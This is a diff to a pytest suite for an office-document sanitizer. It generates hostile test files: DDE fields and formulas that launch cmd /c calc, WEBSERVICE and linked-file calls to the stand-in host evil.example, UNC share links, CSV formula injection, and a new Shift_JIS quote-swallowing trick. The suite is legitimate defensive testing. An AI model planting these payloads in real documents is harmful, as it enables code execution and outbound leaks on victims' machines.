@@ -20,6 +20,7 @@ import os
 import re
 import shutil
 import subprocess
+import sys
 import tempfile
 import zipfile
 from pathlib import Path
@@ -34,7 +35,7 @@ ROOT = Path(__file__).resolve().parent.parent
 EVIL = "evil.example"
 UNC = "\\\\evil.example\\share"
 BENIGN = "市民課の案内 benign text stays"  # planted in every hostile document: the rebuild keeps it
-CALC = 'C:\\Windows\\System32\\cmd.exe /c calc.exe'
+PASSWORD = "himitsu-2026"
 
 
 # ============================================================================ OpenDocument
@@ -54,6 +55,7 @@ NS = {
     "ooo": "http://openoffice.org/2004/office",
     "oooc": "http://openoffice.org/2004/calc",
     "dom": "http://www.w3.org/2001/xml-events",
+    "calcext": "urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0",
 }
 DECLS = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in NS.items())
 MIMETYPES = {
@@ -165,6 +167,13 @@ def odt_active() -> bytes:
         '<text:p><draw:frame draw:name="frame" text:anchor-type="as-char" svg:width="2cm" svg:height="2cm">'
         f'<draw:floating-frame xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad" xlink:href="http://{EVIL}/"/>'
         "</draw:frame></text:p>"
+        '<text:section text:name="ddesection"><office:dde-source office:dde-application="cmd" '
+        'office:dde-topic="/c calc.exe section" office:dde-item="A0" office:automatic-update="true"/>'
+        "<text:p>dde section</text:p></text:section>"
+        f'<text:p><text:database-display text:database-name="{UNC}\\db.mdb" text:table-name="t" '
+        'text:table-type="table" text:column-name="c">merge</text:database-display> '
+        '<text:bibliography-mark text:identifier="b1" text:bibliography-type="www" '
+        'text:url="file:///C:/Windows/System32/calc.exe" text:title="t">[1]</text:bibliography-mark></text:p>'
         '<text:section text:name="linked"><text:section-source xlink:type="simple" '
         f'xlink:href="file://{EVIL}/share/x.odt" text:filter-name="writer8"/><text:p>section</text:p></text:section>'
     )
@@ -209,7 +218,10 @@ def ods_active() -> bytes:
         "<table:content-validations><table:content-validation table:name=\"val1\" "
         "table:condition=\"of:cell-content-is-whole-number()\"><table:error-macro table:execute=\"true\">"
         f"<office:event-listeners>{listener('office:validation-error')}</office:event-listeners>"
-        "</table:error-macro></table:content-validation></table:content-validations>"
+        "</table:error-macro></table:content-validation>"
+        '<table:content-validation table:name="val2" table:condition="of:cell-content-is-in-list('
+        f'WEBSERVICE(&quot;http://{EVIL}/list&quot;))" table:allow-empty-cell="true" table:display-list="unsorted"/>'
+        "</table:content-validations>"
         '<table:table table:name="Sheet1">'
         f'<table:table-row><table:table-cell office:value-type="string"><text:p>{BENIGN}</text:p></table:table-cell>'
         '<table:table-cell table:content-validation-name="val1" office:value-type="float" office:value="1">'
@@ -219,7 +231,14 @@ def ods_active() -> bytes:
         '<text:a xlink:type="simple" xlink:href="file:///C:/Windows/System32/calc.exe">cell link</text:a>'
         "</text:p></table:table-cell><table:table-cell office:value-type=\"string\"><text:p>"
         f'<text:a xlink:type="simple" xlink:href="{MACRO_URL}">macro link</text:a></text:p></table:table-cell>'
-        "</table:table-row></table:table>"
+        "</table:table-row>"
+        '<table:table-row><table:table-cell table:content-validation-name="val2" office:value-type="string">'
+        "<text:p>list</text:p><office:annotation><text:p>メモ: 確認済み</text:p></office:annotation>"
+        "</table:table-cell></table:table-row>"
+        '<calcext:conditional-formats><calcext:conditional-format calcext:target-range-address="Sheet1.B2:Sheet1.B3">'
+        f'<calcext:condition calcext:apply-style-name="Default" calcext:value="formula-is(WEBSERVICE(&quot;http://{EVIL}/cf&quot;))"'
+        ' calcext:base-cell-address="Sheet1.B2"/></calcext:conditional-format></calcext:conditional-formats>'
+        "</table:table>"
         '<table:table table:name="Linked"><table:table-source xlink:type="simple" '
         f'xlink:href="file://{EVIL}/share/book.ods" table:mode="copy-all" table:table-name="Sheet1"/>'
         '<table:table-row><table:table-cell office:value-type="string"><text:p>linked</text:p>'
@@ -272,6 +291,8 @@ def odp_active() -> bytes:
         '<draw:page draw:name="p1">'
         + shape("eeeee", sound, "sound")
         + shape("ffffff", odd, "odd")
+        + shape("ggggggg", "", '<text:a xlink:type="simple" xlink:href="file:///C:/Windows/System32/calc.exe">'
+                "text link</text:a> <text:a xlink:type=\"simple\" xlink:href=\"../../x.exe\">relative</text:a>")
         + shape("a", program, BENIGN)
         + shape("bb", listener("dom:click"), "macro")
         + shape("ccc", document, "share")
@@ -374,6 +395,7 @@ RTF_FIELDS = rtf_doc(
     + field(f'HYPERLINK "{SHARE}\\\\\\\\x.exe"', "unc")
     + field(f'HYPERLINK "//{EVIL}/share/x.exe"', "scheme-relative")
     + field('HYPERLINK "..\\\\..\\\\Windows\\\\System32\\\\calc.exe"', "relative")
+    + field('HYPERLINK "invoice.exe"', "relative to the base")
     + field("MACROBUTTON Main " + rtf_text("押す"))
     + "text{\\super\\chftn}{\\footnote\\pard\\plain{\\super\\chftn} " + dde("footnote") + "}"
     + "end{\\super\\chftn}{\\footnote\\ftnalt\\pard\\plain{\\super\\chftn} " + dde("endnote") + "}"
@@ -383,7 +405,8 @@ RTF_FIELDS = rtf_doc(
     + "{\\shp{\\*\\shpinst\\shpleft0\\shptop2000\\shpright2000\\shpbottom4000{\\sp{\\sn shapeType}{\\sv 75}}"
     f"{{\\sp{{\\sn pibName}}{{\\sv {UNC.replace(chr(92), chr(92) * 2)}\\\\x.png}}}}"
     "{\\sp{\\sn pibFlags}{\\sv 10}}}}",
-    head="{\\header\\pard " + dde("header") + "\\par}{\\footer\\pard " + dde("footer") + "\\par}",
+    head=f"{{\\info{{\\hlinkbase {UNC.replace(chr(92), chr(92) * 2)}\\\\}}}}"  # relative links resolve against a share
+    + "{\\header\\pard " + dde("header") + "\\par}{\\footer\\pard " + dde("footer") + "\\par}",
 )
 RTF_OBJECTS = rtf_doc(
     rtf_object("Package", package_shelllink())
@@ -417,7 +440,12 @@ XML_2003 = f"""<?xml version="1.0" encoding="UTF-8"?>
  <Worksheet ss:Name="Macro"><Table>
   <Row><Cell ss:Formula="=EXEC(&quot;calc.exe&quot;)"><Data ss:Type="Number">0</Data></Cell></Row>
   <Row><Cell ss:Formula="=HALT()"><Data ss:Type="Number">0</Data></Cell></Row>
- </Table><WorksheetOptions xmlns="urn:schemas-microsoft-com:office:excel"><Visible>SheetVeryHidden</Visible>
+ </Table>
+ <ConditionalFormatting xmlns="urn:schemas-microsoft-com:office:excel"><Range>R1C1</Range><Condition>
+  <Value1>WEBSERVICE(&quot;http://{EVIL}/cf&quot;)</Value1><Format Style='color:red'/></Condition></ConditionalFormatting>
+ <DataValidation xmlns="urn:schemas-microsoft-com:office:excel"><Range>R2C1</Range><Type>List</Type>
+  <Value>WEBSERVICE(&quot;http://{EVIL}/list&quot;)</Value></DataValidation>
+ <WorksheetOptions xmlns="urn:schemas-microsoft-com:office:excel"><Visible>SheetVeryHidden</Visible>
  </WorksheetOptions></Worksheet>
 </Workbook>
 """.encode()
@@ -433,6 +461,7 @@ HTML_XLS = f"""<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><met
 <tr><td x:fmla="=HYPERLINK(&quot;file://///{EVIL}/share/x.exe&quot;,&quot;f&quot;)">f</td>
 <td x:fmla="=WEBSERVICE(&quot;http://{EVIL}/&quot;)">w</td></tr>
 <tr><td>=cmd|' /C calc'!A0</td><td><iframe src="http://{EVIL}/"></iframe></td></tr>
+<tr><td><a href="{UNC}\\x.exe">share</a></td><td><a href="//{EVIL}/share/x.exe">scheme-relative</a></td></tr>
 </table></body></html>""".encode()
 
 
@@ -474,6 +503,12 @@ TEXT_ATTACKS: dict[str, bytes] = {
     "html_named.csv": f"<html><body><table><tr><td>{BENIGN}</td></tr><tr><td>=cmd|' /C calc'!A0</td></tr>"
     f"<tr><td><img src=\"{UNC}\\x.png\"></td></tr></table><script>alert(1)</script></body></html>".encode(),
     "rtf_named.csv": rtf_doc(field("DDEAUTO cmd \"/c calc\"")),
+    # A quoted cell that holds a line break and a formula, in UTF-8 (no BOM) and in EUC-JP: its
+    # last character ends in a byte Shift_JIS takes for a lead byte (あ = E3 81 82; む = A4 E0),
+    # so a Japanese Windows program reading it byte-wise as CP932 swallows the closing quote
+    # with it, and =cmd starts a row of its own
+    "utf8_quote_shift.csv": '"あ""\r\n=cmd|\' /C calc\'!A0\r\n",x\r\n'.encode(),
+    "eucjp_quote_shift.csv": '"住民票の写しを申し込む""\r\n=cmd|\' /C calc\'!A0\r\n",備考\r\nりんご,12\r\n'.encode("euc-jp"),
 }
 
 
@@ -530,6 +565,49 @@ def xlsx_with_chart() -> bytes:
     return saved(workbook)
 
 
+ENCRYPTING_MODULE = """<?xml version="1.0" encoding="UTF-8"?>
+<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">
+Sub EncryptOne(source As String, target As String, filterName As String, secret As String)
+  Dim opening(0) As New com.sun.star.beans.PropertyValue
+  opening(0).Name = "Hidden" : opening(0).Value = True
+  book = StarDesktop.loadComponentFromURL(ConvertToURL(source), "_blank", 0, opening())
+  Dim storing(1) As New com.sun.star.beans.PropertyValue
+  storing(0).Name = "FilterName" : storing(0).Value = filterName
+  storing(1).Name = "Password" : storing(1).Value = secret
+  book.storeToURL(ConvertToURL(target), storing())
+  book.close(True)
+End Sub
+
+Sub Encrypt(jobs As String)
+  For Each job In Split(jobs, "|")
+    part = Split(job, ";")
+    EncryptOne(part(0), part(1), part(2), part(3))
+  Next
+End Sub
+</script:module>"""
+
+
+def libreoffice_encrypted(work: Path, jobs: dict[str, tuple[bytes, str, str, str]]) -> dict[str, bytes]:
+    """Legacy files encrypted by LibreOffice itself (RC4 CryptoAPI, as Office 2003 and later
+    write them): name -> (source, its suffix, filter, password). A Basic macro in the build
+    profile does them all in one start; the profile exists once ``libreoffice`` has run."""
+    module = work / "lo-profile" / "user" / "basic" / "Standard" / "Module1.xba"
+    assert module.exists(), "run libreoffice() first: it makes the profile"
+    module.write_text(ENCRYPTING_MODULE, encoding="utf-8")
+    folder = work / "encrypted"
+    folder.mkdir()
+    spec = []
+    for name, (source, suffix, filter_name, password) in jobs.items():
+        (folder / f"source-{name}{suffix}").write_bytes(source)
+        spec.append(f"{folder}/source-{name}{suffix};{folder}/{name};{filter_name};{password}")
+    soffice = shutil.which("soffice")
+    assert soffice, "LibreOffice is needed (make test installs it)"
+    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{work}/lo-profile",
+                    f'macro:///Standard.Module1.Encrypt("{"|".join(spec)}")'], check=True, capture_output=True,
+                   timeout=240)
+    return {name: (folder / name).read_bytes() for name in jobs}
+
+
 def velvet_encrypted(data: bytes) -> bytes:
     """An ECMA-376 encrypted package under Excel's well-known default password."""
     import msoffcrypto
@@ -558,7 +636,13 @@ def build_legacy_inputs(work: Path) -> dict[str, bytes]:
     xls = libreoffice(work, {"vba.xlsm": xlsm, "active.ods": ods}, "xls:MS Excel 97")
     docs = libreoffice(work, {"active.odt": odt, "fields.rtf": RTF_FIELDS, "table.docx": docx_with_table()},
                        "doc:MS Word 97")
+    encrypted = libreoffice_encrypted(work, {
+        "velvet.xls": (ods, ".ods", "MS Excel 97", "VelvetSweatshop"),  # opens without asking
+        "secret.xls": (ods, ".ods", "MS Excel 97", PASSWORD),
+        "secret.doc": (odt, ".odt", "MS Word 97", PASSWORD),
+    })
     return {
+        **encrypted,
         "rtf_fields.rtf": RTF_FIELDS,
         "rtf_objects.rtf": RTF_OBJECTS,
         "rtf_template.rtf": RTF_TEMPLATE,
@@ -606,7 +690,7 @@ def build_quick_inputs() -> dict[str, bytes]:
 _OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
 RELATIONSHIP_TYPES = {_OD + kind for kind in (
     "officeDocument extended-properties custom-properties styles settings fontTable numbering footnotes "
-    "endnotes comments header footer theme image hyperlink webSettings worksheet sharedStrings drawing "
+    "endnotes comments header footer theme image hyperlink webSettings worksheet sharedStrings drawing vmlDrawing "
     "chart slide slideLayout slideMaster notesSlide notesMaster presProps viewProps tableStyles"
 ).split()} | {"http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"}
 PART_NAMES = re.compile(
@@ -614,7 +698,8 @@ PART_NAMES = re.compile(
     r"|word/(?:document|styles|settings|fontTable|numbering|footnotes|endnotes|comments|webSettings"
     r"|header\d+|footer\d+|theme/theme\d+)\.xml|word/_rels/[\w]+\.xml\.rels"
     r"|xl/(?:workbook|styles|sharedStrings|theme/theme\d+|worksheets/sheet\d+|drawings/drawing\d+"
-    r"|charts/chart\d+)\.xml|xl/(?:worksheets/|drawings/|charts/)?_rels/\w+\.xml\.rels"
+    r"|charts/chart\d+|comments\d+)\.xml|xl/(?:worksheets/|drawings/|charts/)?_rels/\w+\.xml\.rels"
+    r"|xl/drawings/vmlDrawing\d+\.vml"
     r"|ppt/(?:presentation|presProps|viewProps|tableStyles|theme/theme\d+"
     r"|(?:slides|slideLayouts|slideMasters|notesSlides|notesMasters)/\w+)\.xml"
     r"|ppt/(?:slides|slideLayouts|slideMasters|notesSlides|notesMasters/)?/?_rels/\w+\.xml\.rels"
@@ -628,7 +713,13 @@ FORBIDDEN_ELEMENTS = set(
     """attachedTemplate mailMerge docVars docVar OLEObject oleObject oleObjects control controls
     objectEmbed objectLink ddeLink externalReference externalReferences externalBook altChunk subDoc
     frameset frame webPublishItems oleLink sndAc snd stSnd wavAudioFile audioFile videoFile quickTimeFile
-    oleObj embed dataModelExt ClientData""".split()
+    oleObj embed dataModelExt HyperlinkBase""".split()
+)
+# a cell note is the one thing Excel keeps in VML (ECMA-376 Part 4 §19, §20): a text box shape
+# and its anchor; no pictures, OLE, controls, macros, links or event scripts
+VML_ELEMENTS = set(
+    """xml shapelayout idmap shapetype stroke path shape shadow fill textbox div font span p br ClientData
+    MoveWithCells SizeWithCells Anchor AutoFill TextVAlign TextHAlign Row Column Visible Locked""".split()
 )
 LIVE_SCHEMES = re.compile(r"^\s*(?:file:|javascript:|vbscript:|ms-[\w-]+:|search-ms:|search:|vnd\.sun\.star|"
                           r"macro:|shell:|\\\\|//|\.\.|[a-z]:[\\/])", re.I)
@@ -636,7 +727,7 @@ HARMLESS_FIELDS = set(
     """PAGE NUMPAGES SECTIONPAGES SECTION DATE TIME CREATEDATE SAVEDATE PRINTDATE TOC TOA TC XE INDEX REF
     PAGEREF NOTEREF SEQ STYLEREF TITLE AUTHOR SUBJECT KEYWORDS COMMENTS LASTSAVEDBY NUMWORDS NUMCHARS
     LISTNUM AUTONUM AUTONUMLGL AUTONUMOUT SYMBOL EQ ADVANCE FORMTEXT FORMCHECKBOX FORMDROPDOWN BIBLIOGRAPHY
-    CITATION DOCPROPERTY SET IF COMPARE = FILLIN ASK USERNAME USERINITIALS""".split()
+    CITATION DOCPROPERTY SET IF COMPARE = FILLIN ASK USERNAME USERINITIALS MERGEFIELD""".split()
 )
 HARMLESS_FUNCTIONS = set(
     """SUM AVERAGE COUNT COUNTA COUNTBLANK MIN MAX IF IFERROR AND OR NOT ROUND ROUNDUP ROUNDDOWN NA TRUE
@@ -714,9 +805,12 @@ def inspect_package(path: Path) -> list[str]:
             if CONTENT_TYPE_WORDS.search(entry.get("ContentType", "")):
                 problems.append(f"content type {entry.get('ContentType')}")
         for name in names:
-            if not name.endswith((".xml", ".rels")):
+            if not name.endswith((".xml", ".rels", ".vml")):
                 continue
             root = etree.fromstring(package.read(name), etree.XMLParser(resolve_entities=False, no_network=True))
+            if name.endswith(".vml"):
+                problems += vml_problems(name, root)
+                continue
             if name.endswith(".rels"):
                 for rel in root:
                     kind, target = rel.get("Type", ""), rel.get("Target", "")
@@ -761,6 +855,22 @@ def inspect_package(path: Path) -> list[str]:
     return problems
 
 
+def vml_problems(name: str, root: etree._Element) -> list[str]:
+    problems = []
+    for element in root.iter():
+        if not isinstance(element.tag, str):
+            continue
+        tag = local(element.tag)
+        if tag not in VML_ELEMENTS:
+            problems.append(f"{name}: VML element {tag}")
+        if tag == "ClientData" and element.get("ObjectType") != "Note":
+            problems.append(f"{name}: VML control {element.get('ObjectType')}")
+        for attribute in element.attrib:
+            if local(attribute).lower() in ("href", "src", "action", "macro") or re.fullmatch(r"on\w+", local(attribute)):
+                problems.append(f"{name}: VML {tag}@{local(attribute)}")
+    return problems
+
+
 def second_opinion(path: Path) -> list[str]:
     """oletools, which knows nothing of cdr: VBA/XLM anywhere, DDE links anywhere."""
     from oletools import msodde
@@ -773,9 +883,10 @@ def second_opinion(path: Path) -> list[str]:
             problems.append("olevba: macros")
     finally:
         parser.close()
-    dde = msodde.process_file(str(path), msodde.FIELD_FILTER_BLACKLIST)
-    if dde.strip():
-        problems.append(f"msodde: {dde.strip()!r}")
+    # msodde lists every field outside its own harmless list; a merge field is only a name
+    # in brackets once the merge's data source is gone (the inspector refuses mailMerge)
+    fields = msodde.process_file(str(path), msodde.FIELD_FILTER_BLACKLIST).splitlines()
+    problems += [f"msodde: {line!r}" for line in fields if line.strip() and line.split()[0] != "MERGEFIELD"]
     return problems
 
 
@@ -839,7 +950,7 @@ def mbcs_view(data: bytes) -> str:
 LEGACY_NAMES = (
     "rtf_fields.rtf rtf_objects.rtf rtf_template.rtf odt_active.odt odt_ole.odt ods_active.ods odp_active.odp "
     "doc_active.doc doc_fields.doc dot_active.dot xls_active.xls xls_vba.xls xlt_active.xlt pps_active.pps "
-    "xml2003.xls html_table.xls rtf_is_doc.rtf xls_is_doc.xls doc_encrypted_flag.doc"
+    "xml2003.xls html_table.xls rtf_is_doc.rtf xls_is_doc.xls doc_encrypted_flag.doc velvet.xls secret.xls secret.doc"
 ).split()
 QUICK_NAMES = [*TEXT_ATTACKS, "doc_is_rtf.doc", "doc_is_html.doc", "velvet_xlsm.xls"]
 BENIGN_FILES = {  # name: what a person must still read in the released file
@@ -849,19 +960,33 @@ BENIGN_FILES = {  # name: what a person must still read in the released file
     "benign_sjis.csv": ("品名", "りんご", "産地直送"),
 }
 # what is known to cross today: name -> why (each is a strict xfail until cdr is fixed)
-CROSSINGS: dict[str, str] = {}
+_BYTEWISE = (
+    "released byte for byte in {0} without a BOM: Excel on a Japanese Windows reads a BOM-less CSV as CP932, "
+    "where the last byte of the quoted cell's last character is a lead byte that takes the closing quote with "
+    "it, so =cmd|' /C calc'!A0, inside a quoted cell for cdr, starts a row of its own (assumes Excel's reading "
+    "takes any byte after a lead byte, as IsDBCSLeadByte loops do; unverified on a real Excel)"
+)
+CROSSINGS: dict[str, str] = {
+    "utf8_quote_shift.csv": _BYTEWISE.format("UTF-8"),
+    "eucjp_quote_shift.csv": _BYTEWISE.format("EUC-JP"),
+}
 # msodde guesses a CSV's delimiter from its content; Excel on a Japanese Windows (the reading
 # README promises) splits a .csv on commas whatever it holds, so there these cells are text
 LOCALE_ONLY = {"sep_line.csv": "a;=cmd|' /C calc'!A0 is one text cell unless the list separator is ';'"}
 
 
 @pytest.fixture(scope="module")
-def legacy_results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, object]]:
+def legacy_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, dict[str, object]]]:
     work = tmp_path_factory.mktemp("legacy")
     (work / "build").mkdir()
     files = build_legacy_inputs(work / "build")
     assert set(files) == set(LEGACY_NAMES) | {n for n in BENIGN_FILES if not n.endswith(".csv")}
-    return sanitize(work, files)  # the real CLI, as an operator runs it
+    return work, sanitize(work, files)  # the real CLI, as an operator runs it
+
+
+@pytest.fixture(scope="module")
+def legacy_results(legacy_run: tuple[Path, dict[str, dict[str, object]]]) -> dict[str, dict[str, object]]:
+    return legacy_run[1]
 
 
 @pytest.fixture(scope="module")
@@ -891,7 +1016,10 @@ def judge(result: dict[str, object]) -> list[str]:
         with tempfile.TemporaryDirectory(prefix="atkoffice-") as folder:  # msodde reads UTF-8 only
             copy = Path(folder) / output.name
             copy.write_text(csv_text(data), encoding="utf-8", newline="")
-            dde = msodde.process_csv(str(copy))
+            try:
+                dde = msodde.process_csv(str(copy))
+            except csv.Error:  # its delimiter sniffer gives up on a one-column file: no opinion
+                dde = ""
         if output.name in LOCALE_ONLY:
             assert dde.strip() and problems == [], (output.name, dde, problems)  # still exactly that
             return []
@@ -935,3 +1063,30 @@ def test_benign_file_keeps_its_content(name: str, request: pytest.FixtureRequest
     for expected in BENIGN_FILES[name]:
         assert expected in text, (name, expected, text[:500])
     assert judge(result) == []
+
+
+@pytest.mark.slow
+def test_encrypted_legacy_files_are_held_until_unlocked_then_cross_clean(
+    legacy_run: tuple[Path, dict[str, dict[str, object]]],
+) -> None:
+    """An encrypted .doc/.xls hides everything from a filter: it is held as encrypted (not let
+    through, not called damaged); unlocked with its password, it is rebuilt like any other. One
+    under Excel's well-known default password opens without asking (policy) and is rebuilt."""
+    work, results = legacy_run
+    for name in ("secret.doc", "secret.xls"):
+        assert (results[name]["verdict"], results[name]["reason"]) == ("quarantined", "encrypted"), results[name]
+    assert results["velvet.xls"]["verdict"] == "released" and results["velvet.xls"]["type"] == "xls"
+    (work / "password").write_text(PASSWORD + "\n", encoding="utf-8")
+    unlocked = run_cli(["quarantine", "unlock", str(results["secret.xls"]["quarantine_id"]), "--password-file",
+                        str(work / "password"), "--quarantine", str(work / "q"), "--audit", str(work / "audit.jsonl"),
+                        "--outbox", str(work / "out"), "--spool", str(work / "spool")])
+    assert unlocked.returncode == 0 and "secret.xlsx" in unlocked.stdout, unlocked
+    output = work / "out" / "secret.xlsx"
+    assert inspect_package(output) == [] and BENIGN in document_text(output)
+
+
+def run_cli(arguments: list[str]) -> subprocess.CompletedProcess[str]:
+    run = subprocess.run([sys.executable, str(ROOT / "cli.py"), *arguments], capture_output=True, text=True,
+                         timeout=300, env={**os.environ, "CDR_CONFIG": "/dev/null"})
+    assert "Traceback" not in run.stderr, run.stderr
+    return run
